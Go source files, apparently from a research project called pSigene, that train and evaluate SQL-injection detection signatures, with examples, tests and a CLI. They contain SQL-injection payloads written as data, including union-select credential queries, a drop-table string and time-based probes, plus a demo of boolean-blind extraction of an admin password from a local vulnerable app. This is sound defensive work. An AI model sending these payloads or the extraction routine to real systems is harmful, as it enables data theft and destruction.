// Quickstart: train a pSigene signature set on a small synthetic corpus
// and classify a handful of requests.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/httpx"
	"psigene/internal/traffic"
)

func main() {
	// Phase 1 stand-in: a crawled-corpus generator (see examples/crawl-and-train
	// for the real crawling loop).
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(3000)
	benign := traffic.NewGenerator(2).Requests(8000)

	// Phases 2-4: feature extraction, biclustering, logistic signatures.
	model, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("trained %d generalized signatures over %d features (from %d candidates)\n",
		len(model.Signatures), model.Stats.ObservedFeatures, model.Stats.CandidateFeatures)
	fmt.Printf("cophenetic correlation of the sample dendrogram: %.3f\n\n",
		model.Stats.CopheneticCorrelation)

	// Operational phase: classify requests.
	requests := []string{
		"/product.php?id=42",
		"/product.php?id=42'+or+'1'='1",
		"/search?q=union+college+course+selection",
		"/view.php?cat=-1+union+select+user,password+from+mysql.user--+",
		"/news.php?article=1%27;+drop+table+users;--+",
		"/calendar/events.php?from=2026-07-01&to=2026-07-31",
		"/item.php?ref=1+and+sleep(5)",
	}
	for _, raw := range requests {
		req, err := httpx.ParseURL(raw)
		if err != nil {
			log.Fatal(err)
		}
		verdict := model.Inspect(req)
		status := "clean"
		if verdict.Alert {
			status = "ALERT " + fmt.Sprint(verdict.Matched)
		}
		fmt.Printf("%-55s %s\n", raw, status)
	}
}
