// Incremental: the paper's Experiment 2 use case. A deployed model is
// periodically fed freshly observed attack samples; only the affected
// signatures' logistic parameters retrain, and detection improves without
// any manual signature work.
//
//	go run ./examples/incremental
package main

import (
	"fmt"
	"log"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/ids"
	"psigene/internal/traffic"
)

func main() {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(1500)
	benign := traffic.NewGenerator(2).Requests(4000)
	model, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		log.Fatal(err)
	}

	// A stream of fresh attacks from a scanner the model has not seen.
	fresh := attackgen.NewGenerator(attackgen.SQLMapProfile(), 50).Requests(1000)
	benignTest := traffic.NewGenerator(51).Requests(8000)

	evalNow := func(label string) {
		ra := ids.Evaluate(model, fresh)
		rb := ids.Evaluate(model, benignTest)
		fmt.Printf("%-28s TPR = %6.2f%%   FPR = %7.4f%%\n", label, ra.TPR()*100, rb.FPR()*100)
	}

	evalNow("baseline")
	// Feed batches of the fresh samples back in, as an operator deploying
	// pSigene would do on a schedule.
	for i, batch := range [][2]int{{0, 200}, {200, 400}} {
		if err := model.Update(fresh[batch[0]:batch[1]]); err != nil {
			log.Fatal(err)
		}
		evalNow(fmt.Sprintf("after batch %d (+200 samples)", i+1))
	}
}
