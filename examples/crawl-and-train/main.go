// Crawl-and-train: the full pSigene loop of Figure 1. Four cybersecurity
// portal simulators are served over real HTTP sockets, the crawler collects
// attack samples from their listing pages, advisory pages and search API,
// and the pipeline turns the crawl into generalized signatures.
//
//	go run ./examples/crawl-and-train
//
// With -flaky the portals degrade the way the paper's three-month crawl of
// public sites did: every request has a 20% chance of a deterministic
// injected fault (500s, rate limits, hangs, resets, truncated or garbled
// pages; see internal/faultify). The crawler retries, backs off, honors
// Retry-After, breaks circuits and quarantines — and still delivers the
// corpus to train on.
//
//	go run ./examples/crawl-and-train -flaky
package main

import (
	"flag"
	"fmt"
	"log"
	"net/http/httptest"
	"time"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/crawl"
	"psigene/internal/faultify"
	"psigene/internal/ids"
	"psigene/internal/portal"
	"psigene/internal/traffic"
)

func main() {
	flaky := flag.Bool("flaky", false, "inject deterministic faults into the portals (20% of requests)")
	flag.Parse()

	// Phase 1a: stand up the public cybersecurity portals.
	specs := []struct {
		name    string
		style   portal.Style
		entries int
		seed    int64
	}{
		{"securityfocus", portal.StyleHTML, 30, 1},
		{"exploit-db", portal.StyleHTML, 40, 2},
		{"packetstorm", portal.StyleHTML, 25, 3},
		{"osvdb", portal.StyleAPI, 35, 4},
	}
	var urls []string
	var injectors []*faultify.Injector
	for _, s := range specs {
		gen := attackgen.NewGenerator(attackgen.CrawlProfile(), s.seed)
		p := portal.New(s.name, s.style, 8, portal.GenerateEntries(gen, s.entries))
		h := p.Handler()
		if *flaky {
			inj := faultify.New(faultify.Config{
				Seed:    100 + s.seed,
				Rates:   faultify.Uniform(0.20),
				Repeats: 2,
			})
			injectors = append(injectors, inj)
			h = p.FaultyHandler(inj)
		}
		srv := httptest.NewServer(h)
		defer srv.Close()
		urls = append(urls, srv.URL)
		fmt.Printf("portal %-14s at %s (%d advisories)\n", s.name, srv.URL, s.entries)
	}
	if *flaky {
		fmt.Println("fault injection: 20% of requests, deterministic seeded schedule")
	}

	// Phase 1b: crawl them. Under -flaky the crawl degrades gracefully:
	// partial results come back with per-portal health instead of an abort.
	// The tightened timeout and backoff keep the demo quick; against real
	// remote portals the defaults (10s timeout, up to 5s backoff) apply.
	var copts crawl.Options
	if *flaky {
		copts = crawl.Options{
			Timeout:     time.Second,
			BackoffBase: 50 * time.Millisecond,
			BackoffMax:  500 * time.Millisecond,
		}
	}
	c := crawl.New(copts)
	samples, results, err := c.CrawlAll(urls)
	if err != nil {
		fmt.Printf("crawl degraded: %v\n", err)
	}
	for i, r := range results {
		fmt.Printf("crawled %-14s %3d pages -> %3d samples, CVEs seen: %d",
			specs[i].name, r.PagesFetched, len(r.Samples), len(r.CVEs))
		h := r.Health
		if h.Retries+h.PagesSkipped+h.RateLimited+h.Malformed > 0 {
			fmt.Printf("  [retries %d, rate-limited %d, malformed %d, quarantined %d]",
				h.Retries, h.RateLimited, h.Malformed, h.PagesSkipped)
		}
		fmt.Println()
	}
	for i, inj := range injectors {
		fmt.Printf("faults  %-14s %s\n", specs[i].name, inj.Snapshot())
	}
	fmt.Printf("total: %d unique attack samples\n\n", len(samples))

	// Phases 2-4: train on the (possibly degraded) crawl plus benign
	// traffic, with a coverage floor so a gutted corpus refuses to train.
	benign := traffic.NewGenerator(9).Requests(4000)
	model, err := core.Train(samples, benign, core.Config{MinAttackSamples: 50})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("trained %d signatures (features: %d candidates -> %d observed)\n",
		len(model.Signatures), model.Stats.CandidateFeatures, model.Stats.ObservedFeatures)

	// Evaluate against an unseen scanner's traffic.
	test := attackgen.NewGenerator(attackgen.SQLMapProfile(), 99).Requests(600)
	bTest := traffic.NewGenerator(98).Requests(5000)
	ra := ids.Evaluate(model, test)
	rb := ids.Evaluate(model, bTest)
	fmt.Printf("SQLmap-style test set: TPR = %.2f%%  benign trace: FPR = %.4f%%\n",
		ra.TPR()*100, rb.FPR()*100)
}
