// Crawl-and-train: the full pSigene loop of Figure 1. Four cybersecurity
// portal simulators are served over real HTTP sockets, the crawler collects
// attack samples from their listing pages, advisory pages and search API,
// and the pipeline turns the crawl into generalized signatures.
//
//	go run ./examples/crawl-and-train
package main

import (
	"fmt"
	"log"
	"net/http/httptest"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/crawl"
	"psigene/internal/ids"
	"psigene/internal/portal"
	"psigene/internal/traffic"
)

func main() {
	// Phase 1a: stand up the public cybersecurity portals.
	specs := []struct {
		name    string
		style   portal.Style
		entries int
		seed    int64
	}{
		{"securityfocus", portal.StyleHTML, 30, 1},
		{"exploit-db", portal.StyleHTML, 40, 2},
		{"packetstorm", portal.StyleHTML, 25, 3},
		{"osvdb", portal.StyleAPI, 35, 4},
	}
	var urls []string
	for _, s := range specs {
		gen := attackgen.NewGenerator(attackgen.CrawlProfile(), s.seed)
		p := portal.New(s.name, s.style, 8, portal.GenerateEntries(gen, s.entries))
		srv := httptest.NewServer(p.Handler())
		defer srv.Close()
		urls = append(urls, srv.URL)
		fmt.Printf("portal %-14s at %s (%d advisories)\n", s.name, srv.URL, s.entries)
	}

	// Phase 1b: crawl them.
	c := crawl.New(crawl.Options{})
	samples, results, err := c.CrawlAll(urls)
	if err != nil {
		log.Fatal(err)
	}
	for i, r := range results {
		fmt.Printf("crawled %-14s %3d pages -> %3d samples, CVEs seen: %d\n",
			specs[i].name, r.PagesFetched, len(r.Samples), len(r.CVEs))
	}
	fmt.Printf("total: %d unique attack samples\n\n", len(samples))

	// Phases 2-4: train on the crawl plus benign traffic.
	benign := traffic.NewGenerator(9).Requests(4000)
	model, err := core.Train(samples, benign, core.Config{})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("trained %d signatures (features: %d candidates -> %d observed)\n",
		len(model.Signatures), model.Stats.CandidateFeatures, model.Stats.ObservedFeatures)

	// Evaluate against an unseen scanner's traffic.
	test := attackgen.NewGenerator(attackgen.SQLMapProfile(), 99).Requests(600)
	bTest := traffic.NewGenerator(98).Requests(5000)
	ra := ids.Evaluate(model, test)
	rb := ids.Evaluate(model, bTest)
	fmt.Printf("SQLmap-style test set: TPR = %.2f%%  benign trace: FPR = %.4f%%\n",
		ra.TPR()*100, rb.FPR()*100)
}
