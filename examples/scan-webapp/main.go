// Scan-webapp: the paper's test-set methodology, end to end. A WAVSEP-style
// vulnerable application (backed by a real miniature SQL engine) is served
// over HTTP; a working SQLmap-style scanner probes it with error-, boolean-,
// union- and time-based techniques; the scanner's request log becomes the
// attack test set; and a pSigene model trained on an independent crawl-style
// corpus is evaluated against that behaviourally generated traffic.
//
//	go run ./examples/scan-webapp
package main

import (
	"fmt"
	"log"
	"net/http/httptest"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/gateway"
	"psigene/internal/ids"
	"psigene/internal/scanner"
	"psigene/internal/traffic"
	"psigene/internal/webapp"
)

func main() {
	// The three-tier target: 24 vulnerable pages over an in-memory MySQL.
	app := webapp.New(24)
	srv := httptest.NewServer(app)
	defer srv.Close()
	fmt.Printf("vulnerable app at %s with %d injectable pages\n\n", srv.URL, len(app.Vulnerabilities()))

	// Scan it, as the paper runs SQLmap against its 136-vulnerability app.
	var pages []scanner.Page
	for _, v := range app.Vulnerabilities() {
		pages = append(pages, scanner.Page{Path: v.Path, Param: v.Param, Benign: v.BenignValue})
	}
	s := scanner.New(srv.URL, scanner.Options{Client: srv.Client(), Tool: "sqlmap"})
	res, err := s.Scan(pages)
	if err != nil {
		log.Fatal(err)
	}
	byTech := map[scanner.Technique]int{}
	for _, f := range res.Findings {
		byTech[f.Technique]++
		if f.Extracted != "" && byTech[f.Technique] == 1 {
			fmt.Printf("finding: %-14s on %-22s extracted %q\n", f.Technique, f.Page.Path, f.Extracted)
		}
	}
	fmt.Printf("\nscan complete: %d findings over %d pages, %d attack requests captured\n",
		len(res.Findings), res.PagesScanned, len(res.Requests))
	for _, tech := range []scanner.Technique{scanner.TechniqueError, scanner.TechniqueBoolean, scanner.TechniqueUnion, scanner.TechniqueTime} {
		fmt.Printf("  %-14s %d confirmations\n", tech, byTech[tech])
	}

	// Demonstrate the boolean-blind channel end to end: exfiltrate the
	// admin password one comparison at a time, as SQLmap would.
	v0 := app.Vulnerabilities()[0]
	secret, err := s.ExtractBoolean(
		scanner.Page{Path: v0.Path, Param: v0.Param, Benign: v0.BenignValue},
		"select password from users where username='admin'", false, 16)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nboolean-blind extraction of the admin password: %q\n", secret)

	// Train pSigene on an independent crawl-style corpus and evaluate it on
	// the scanner's captured traffic — generalization to a tool it never saw.
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(3000)
	benign := traffic.NewGenerator(2).Requests(8000)
	model, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		log.Fatal(err)
	}
	eval := ids.Evaluate(model, res.Requests)
	fmt.Printf("\npSigene (%d signatures, trained on crawl corpus) on captured scanner traffic:\n", len(model.Signatures))
	fmt.Printf("  detected %d of %d scanner requests (TPR = %.2f%%)\n", eval.TP, eval.TP+eval.FN, eval.TPR()*100)
	fmt.Printf("  scoring latency: p50=%v p99=%v max=%v\n", eval.Latency.P50, eval.Latency.P99, eval.Latency.Max)

	// Deploy the same model inline: the gateway scores each request before
	// it reaches the webapp, so a rescan now runs against a protected app
	// and the captured attack traffic is stopped at the proxy.
	g, err := gateway.New(srv.URL, model, gateway.Options{})
	if err != nil {
		log.Fatal(err)
	}
	guarded := httptest.NewServer(g)
	defer guarded.Close()
	client := guarded.Client()
	var blockedN, passedN int
	for _, r := range res.Requests {
		resp, err := client.Get(guarded.URL + r.URL())
		if err != nil {
			log.Fatal(err)
		}
		_ = resp.Body.Close()
		if resp.StatusCode == 403 {
			blockedN++
		} else {
			passedN++
		}
	}
	snap := g.Snapshot()
	fmt.Printf("\nreplaying the scan through the psigened gateway (%s, generation %d):\n",
		guarded.URL, snap.Generation)
	fmt.Printf("  blocked %d of %d attack requests at the proxy, %d reached the app\n",
		blockedN, len(res.Requests), passedN)
	if blockedN == 0 {
		log.Fatal("gateway blocked nothing; the inline deployment is broken")
	}
}
