// Compare-ids: head-to-head of pSigene against the Snort+ET, Bro and
// ModSecurity rule engines on the same traffic — a miniature of the paper's
// Table V.
//
//	go run ./examples/compare-ids
package main

import (
	"fmt"
	"log"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/ids"
	"psigene/internal/report"
	"psigene/internal/ruleset"
	"psigene/internal/traffic"
)

func main() {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(2000)
	benign := traffic.NewGenerator(2).Requests(6000)
	model, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		log.Fatal(err)
	}

	bro, err := ids.NewRuleEngine(ruleset.Bro(), ids.Options{})
	if err != nil {
		log.Fatal(err)
	}
	snort, err := ids.NewRuleEngine(ruleset.SnortET(), ids.Options{IncludeDisabled: true})
	if err != nil {
		log.Fatal(err)
	}
	modsec, err := ids.NewRuleEngine(ruleset.ModSecCRS(), ids.Options{})
	if err != nil {
		log.Fatal(err)
	}
	detectors := []ids.Detector{model, snort, bro, modsec}

	sqlmap := attackgen.NewGenerator(attackgen.SQLMapProfile(), 7).Requests(800)
	arachni := attackgen.NewGenerator(attackgen.ArachniProfile(), 8).Requests(800)
	benignTest := traffic.NewGenerator(9).Requests(12000)

	tbl := &report.Table{
		Title:   "SQLi detection comparison (generated workloads)",
		Headers: []string{"System", "TPR % (SQLmap)", "TPR % (Arachni)", "FPR %"},
	}
	for _, d := range detectors {
		tbl.AddRow(d.Name(),
			report.Pct(ids.Evaluate(d, sqlmap).TPR(), 2),
			report.Pct(ids.Evaluate(d, arachni).TPR(), 2),
			report.Pct(ids.Evaluate(d, benignTest).FPR(), 4))
	}
	fmt.Print(tbl.String())
}
