module psigene

go 1.24
