package main

import (
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/portal"
)

func TestRunUsageErrors(t *testing.T) {
	var sb strings.Builder
	if err := run(nil, &sb); err == nil {
		t.Fatal("no args: want usage error")
	}
	if err := run([]string{"bogus"}, &sb); err == nil {
		t.Fatal("unknown subcommand: want error")
	}
	if err := run([]string{"inspect"}, &sb); err == nil {
		t.Fatal("inspect without -url: want error")
	}
	if err := run([]string{"crawl"}, &sb); err == nil {
		t.Fatal("crawl without -portals: want error")
	}
}

func TestTrainInspectEvalCycle(t *testing.T) {
	dir := t.TempDir()
	model := filepath.Join(dir, "model.json")
	var out strings.Builder
	err := run([]string{"train", "-attacks", "500", "-benign", "1200", "-out", model}, &out)
	if err != nil {
		t.Fatalf("train: %v\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "signatures over") {
		t.Fatalf("train output missing summary:\n%s", out.String())
	}

	// The global profiling flags sit before the subcommand and must leave
	// subcommand behavior untouched while writing both profile files.
	cpu := filepath.Join(dir, "cpu.pprof")
	mem := filepath.Join(dir, "mem.pprof")
	out.Reset()
	err = run([]string{"-cpuprofile", cpu, "-memprofile", mem,
		"inspect", "-model", model, "-url", "/p.php?id=1%27+or+%271%27=%271"}, &out)
	if err != nil {
		t.Fatalf("inspect: %v", err)
	}
	if !strings.Contains(out.String(), "ALERT") {
		t.Fatalf("tautology should alert:\n%s", out.String())
	}
	for _, p := range []string{cpu, mem} {
		if fi, err := os.Stat(p); err != nil || fi.Size() == 0 {
			t.Fatalf("profile %s missing or empty (err %v)", p, err)
		}
	}

	out.Reset()
	err = run([]string{"inspect", "-model", model, "-url", "/search?q=hello+world"}, &out)
	if err != nil {
		t.Fatalf("inspect benign: %v", err)
	}
	if !strings.Contains(out.String(), "clean") {
		t.Fatalf("benign should be clean:\n%s", out.String())
	}

	out.Reset()
	err = run([]string{"eval", "-model", model, "-attacks", "100", "-benign", "500"}, &out)
	if err != nil {
		t.Fatalf("eval: %v", err)
	}
	for _, want := range []string{"sqlmap", "arachni", "vega", "FPR"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("eval output missing %q:\n%s", want, out.String())
		}
	}
}

func TestCrawlThenTrainFromSamples(t *testing.T) {
	gen := attackgen.NewGenerator(attackgen.CrawlProfile(), 1)
	p := portal.New("exploit-db", portal.StyleHTML, 10, portal.GenerateEntries(gen, 30))
	srv := httptest.NewServer(p.Handler())
	defer srv.Close()

	dir := t.TempDir()
	samples := filepath.Join(dir, "samples.txt")
	var out strings.Builder
	if err := run([]string{"crawl", "-portals", srv.URL, "-out", samples}, &out); err != nil {
		t.Fatalf("crawl: %v", err)
	}
	data, err := os.ReadFile(samples)
	if err != nil {
		t.Fatal(err)
	}
	if len(strings.Split(strings.TrimSpace(string(data)), "\n")) < 10 {
		t.Fatalf("too few crawled samples:\n%s", data)
	}

	// Training from a sample file exercises readSampleFile. A crawl this
	// small may not cover 5%-sized clusters, so just require it to run or
	// fail gracefully.
	model := filepath.Join(dir, "model.json")
	out.Reset()
	err = run([]string{"train", "-samples", samples, "-benign", "1200", "-out", model}, &out)
	if err != nil {
		t.Logf("train from tiny crawl failed (acceptable): %v", err)
		return
	}
	if _, err := os.Stat(model); err != nil {
		t.Fatalf("model not written: %v", err)
	}
}

func TestReadSampleFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "s.txt")
	content := `# comment
http://x.com/a.php?id=1' or 1=1

not-a-url-without-query
http://y.com/b.php?q=union+select
`
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	reqs, err := readSampleFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(reqs) != 2 {
		t.Fatalf("got %d requests, want 2", len(reqs))
	}
	for _, r := range reqs {
		if !r.Malicious {
			t.Fatal("file samples must be labeled malicious")
		}
	}
	if _, err := readSampleFile(filepath.Join(dir, "missing")); err == nil {
		t.Fatal("missing file: want error")
	}
}

func TestExportSubcommand(t *testing.T) {
	dir := t.TempDir()
	model := filepath.Join(dir, "model.json")
	bro := filepath.Join(dir, "psigene.bro")
	var out strings.Builder
	if err := run([]string{"train", "-attacks", "400", "-benign", "1000", "-out", model}, &out); err != nil {
		t.Fatalf("train: %v", err)
	}
	out.Reset()
	if err := run([]string{"export", "-model", model, "-out", bro}, &out); err != nil {
		t.Fatalf("export: %v", err)
	}
	data, err := os.ReadFile(bro)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "module PSigene;") {
		t.Fatalf("exported script malformed:\n%s", data[:200])
	}
}

func TestTuneSubcommand(t *testing.T) {
	dir := t.TempDir()
	model := filepath.Join(dir, "model.json")
	tuned := filepath.Join(dir, "tuned.json")
	var out strings.Builder
	if err := run([]string{"train", "-attacks", "400", "-benign", "1000", "-out", model}, &out); err != nil {
		t.Fatalf("train: %v", err)
	}
	out.Reset()
	err := run([]string{"tune", "-model", model, "-out", tuned, "-attacks", "100", "-benign", "800"}, &out)
	if err != nil {
		t.Fatalf("tune: %v", err)
	}
	if !strings.Contains(out.String(), "threshold") {
		t.Fatalf("tune output:\n%s", out.String())
	}
	if _, err := os.Stat(tuned); err != nil {
		t.Fatalf("tuned model not written: %v", err)
	}
}
