package main

import (
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"path/filepath"
	"strings"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/crawl"
	"psigene/internal/gateway"
	"psigene/internal/lifecycle"
	"psigene/internal/traffic"
	"psigene/internal/webapp"
)

// runLifecycle drives the continuous crawl→retrain→validate→canary loop:
// bootstrap a model into a versioned artifact store, then run N rounds of
// fresh-sample ingestion, incremental retraining, gate validation and
// canary promotion against an inline gateway protecting a demo vulnerable
// app. With -portals the fresh samples come from real crawls (checkpointed
// per portal inside the store); without, from the synthetic crawl-profile
// generator. Canary traffic is replayed in-process, so a full run needs no
// external infrastructure.
func runLifecycle(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("lifecycle", flag.ContinueOnError)
	var (
		storeDir = fs.String("store", "lifecycle", "artifact store directory (created; must not hold a promoted model yet)")
		rounds   = fs.Int("rounds", 3, "lifecycle rounds to run")
		portals  = fs.String("portals", "", "comma-separated portal base URLs to crawl per round (default: synthetic samples)")
		nAttacks = fs.Int("attacks", 1500, "bootstrap attack training samples")
		nBenign  = fs.Int("benign", 3000, "bootstrap benign training requests")
		perRound = fs.Int("round-samples", 200, "synthetic fresh samples per round (ignored with -portals)")
		seed     = fs.Int64("seed", 1, "seed for corpora, gate and canary sampling")
		minTPR   = fs.Float64("min-tpr", 0.85, "gate per-tool detection-rate floor")
		maxFPR   = fs.Float64("max-fpr", 0.05, "gate false-alarm ceiling")
		fraction = fs.Float64("fraction", 1, "canary traffic sampling fraction (0,1]")
		replayB  = fs.Int("replay-benign", 300, "benign canary requests per round")
		replayA  = fs.Int("replay-attacks", 60, "attack canary requests per round")
		rollback = fs.Bool("rollback", false, "force a rollback to the parent version after the rounds")
		par      = fs.Int("parallelism", 0, "training worker count (0 = all cores)")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}

	store, err := lifecycle.OpenStore(*storeDir)
	if err != nil {
		return err
	}
	if cur, err := store.Current(); err != nil {
		return err
	} else if cur != "" {
		return fmt.Errorf("lifecycle: store %s already has a promoted model (%s); point -store at a fresh directory", *storeDir, cur)
	}

	// The protected upstream: the demo vulnerable app on loopback.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	srv := &http.Server{Handler: webapp.New(30)}
	go func() { _ = srv.Serve(ln) }()
	defer func() { _ = srv.Close() }()
	upstream := "http://" + ln.Addr().String()

	var source lifecycle.Source
	if *portals != "" {
		var srcs lifecycle.RoundSources
		for i, u := range strings.Split(*portals, ",") {
			srcs = append(srcs, &lifecycle.CrawlSource{
				URL:            strings.TrimSpace(u),
				Options:        crawl.Options{Seed: *seed},
				CheckpointPath: filepath.Join(store.Root(), fmt.Sprintf("portal-%d.checkpoint", i+1)),
			})
		}
		source = srcs
	} else {
		source = lifecycle.GenSource{Profile: attackgen.CrawlProfile(), Seed: *seed + 100, N: *perRound}
	}

	runner := lifecycle.NewRunner(store, source, lifecycle.RunnerConfig{
		Gate: lifecycle.GateConfig{
			MinTPR: *minTPR, MaxFPR: *maxFPR,
			Seed: *seed + 200, ProbeSamples: 250,
		},
		Canary: lifecycle.CanaryOptions{Fraction: *fraction, Seed: *seed + 300, MaxRegressions: int64(*replayA / 4)},
	})

	fmt.Fprintf(w, "bootstrapping from %d attack and %d benign samples...\n", *nAttacks, *nBenign)
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), *seed).Requests(*nAttacks)
	benign := traffic.NewGenerator(*seed + 1).Requests(*nBenign)
	man, err := runner.Bootstrap(attacks, benign, core.Config{Parallelism: *par})
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "bootstrapped %s: %d signatures, model sha256 %s\n", man.Version, man.Signatures, short(man.ModelSHA256))

	m, cman, err := runner.CurrentDetector()
	if err != nil {
		return err
	}
	gw, err := gateway.New(upstream, m, gateway.Options{
		ModelVersion: cman.Version, ModelSHA256: cman.ModelSHA256,
	})
	if err != nil {
		return err
	}
	runner.AttachGateway(gw)

	for i := 1; i <= *rounds; i++ {
		d, err := runner.Round(func() error {
			lifecycle.ReplayMix(gw, *replayB, *replayA, *seed+400+int64(i))
			return nil
		})
		if err != nil {
			return fmt.Errorf("round %d: %w", i, err)
		}
		printDecision(w, d)
	}

	if *rollback {
		d, err := runner.Rollback()
		if err != nil {
			return err
		}
		printDecision(w, d)
	}

	cur, err := store.Current()
	if err != nil {
		return err
	}
	snap := gw.Snapshot()
	fmt.Fprintf(w, "serving %s (generation %d); store CURRENT = %s; decisions in %s\n",
		snap.ModelVersion, snap.Generation, cur, store.DecisionLog())
	return nil
}

// printDecision renders one lifecycle decision compactly.
func printDecision(w io.Writer, d *lifecycle.Decision) {
	fmt.Fprintf(w, "round %d: %s", d.Round, d.Action)
	if d.Version != "" {
		fmt.Fprintf(w, " %s", d.Version)
		if d.Parent != "" {
			fmt.Fprintf(w, " (parent %s)", d.Parent)
		}
	}
	fmt.Fprintf(w, ", %d fresh samples", d.FreshSamples)
	if g := d.Gate; g != nil {
		minTPR := 1.0
		for _, tr := range g.Tools {
			if tr.TPR < minTPR {
				minTPR = tr.TPR
			}
		}
		fmt.Fprintf(w, "; gate: min TPR %.1f%%, FPR %.2f%%, dead %d", minTPR*100, g.FPR*100, g.DeadSignatures)
		if !g.Pass {
			fmt.Fprintf(w, " — REJECTED (%s)", strings.Join(g.Reasons, "; "))
		}
	}
	if c := d.Canary; c != nil {
		fmt.Fprintf(w, "; canary: %d sampled, %d agree, %d old-only, %d new-only", c.Sampled, c.Agree, c.OldOnly, c.NewOnly)
	}
	fmt.Fprintln(w)
}

func short(hash string) string {
	if len(hash) > 12 {
		return hash[:12]
	}
	return hash
}
