// Command psigene drives the pSigene pipeline end to end.
//
// Subcommands:
//
//	psigene train   -attacks 3000 -benign 10000 -out model.json
//	    Generate (or crawl) a training corpus and produce a signature set.
//	psigene crawl   -portals http://host1,http://host2 -out samples.txt
//	    Crawl cybersecurity portals and write the extracted sample URLs.
//	psigene inspect -model model.json -url "/page.php?id=1'+or+1=1--"
//	    Classify one request with a trained signature set.
//	psigene eval    -model model.json
//	    Evaluate a trained model against generated test sets.
//	psigene export  -model model.json -out psigene.bro
//	    Render the signatures as a Bro 2.x policy script (§III-C).
//	psigene tune    -model model.json -target-fpr 0.0005 -out tuned.json
//	    Pick per-signature thresholds from a validation set (Figure 3).
//	psigene lifecycle -store lifecycle -rounds 3
//	    Run the continuous crawl→retrain→validate→canary lifecycle over a
//	    versioned artifact store (see internal/lifecycle).
package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"psigene/internal/attackgen"
	"psigene/internal/core"
	"psigene/internal/crawl"
	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/profiling"
	"psigene/internal/traffic"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "psigene:", err)
		os.Exit(1)
	}
}

func run(args []string, w io.Writer) (retErr error) {
	const usage = "usage: psigene [-cpuprofile file] [-memprofile file] <train|crawl|inspect|eval|export|tune|lifecycle> [flags]"
	global := flag.NewFlagSet("psigene", flag.ContinueOnError)
	var (
		cpuProfile = global.String("cpuprofile", "", "write a CPU profile to this file")
		memProfile = global.String("memprofile", "", "write a heap profile to this file on exit")
	)
	// Parsing stops at the first non-flag argument, so global flags sit
	// before the subcommand and subcommand flags are untouched.
	if err := global.Parse(args); err != nil {
		return err
	}
	args = global.Args()
	if len(args) == 0 {
		return fmt.Errorf("%s", usage)
	}
	stop, err := profiling.Start(*cpuProfile, *memProfile)
	if err != nil {
		return err
	}
	defer func() {
		if err := stop(); err != nil && retErr == nil {
			retErr = err
		}
	}()
	switch args[0] {
	case "train":
		return runTrain(args[1:], w)
	case "crawl":
		return runCrawl(args[1:], w)
	case "inspect":
		return runInspect(args[1:], w)
	case "eval":
		return runEval(args[1:], w)
	case "export":
		return runExport(args[1:], w)
	case "tune":
		return runTune(args[1:], w)
	case "lifecycle":
		return runLifecycle(args[1:], w)
	default:
		return fmt.Errorf("unknown subcommand %q", args[0])
	}
}

func runTrain(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("train", flag.ContinueOnError)
	var (
		nAttacks = fs.Int("attacks", 3000, "number of attack training samples to generate")
		nBenign  = fs.Int("benign", 10000, "number of benign training requests to generate")
		samples  = fs.String("samples", "", "file of crawled attack sample URLs (one per line) instead of generated attacks")
		portals  = fs.String("portals", "", "comma-separated portal base URLs to crawl for attacks instead of generating")
		seed     = fs.Int64("seed", 1, "RNG seed for generated corpora")
		out      = fs.String("out", "model.json", "output model path")
		par      = fs.Int("parallelism", 0, "training worker count (0 = all cores, 1 = serial); the model is bit-identical either way")
		minSamp  = fs.Int("min-samples", 1, "refuse to train on fewer crawled/loaded attack samples (coverage floor for degraded crawls)")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}

	var attacks []httpx.Request
	switch {
	case *portals != "":
		c := crawl.New(crawl.Options{})
		all, results, err := c.CrawlAll(strings.Split(*portals, ","))
		for _, r := range results {
			fmt.Fprintf(w, "crawled %s: %d pages, %d samples%s\n",
				r.Portal, r.PagesFetched, len(r.Samples), healthSuffix(r.Health))
		}
		if err != nil {
			// Degraded portals are expected; train on what survived and let
			// the -min-samples floor decide whether it is enough.
			fmt.Fprintf(w, "crawl degraded: %v\n", err)
		}
		attacks = all
	case *samples != "":
		var err error
		attacks, err = readSampleFile(*samples)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "loaded %d samples from %s\n", len(attacks), *samples)
	default:
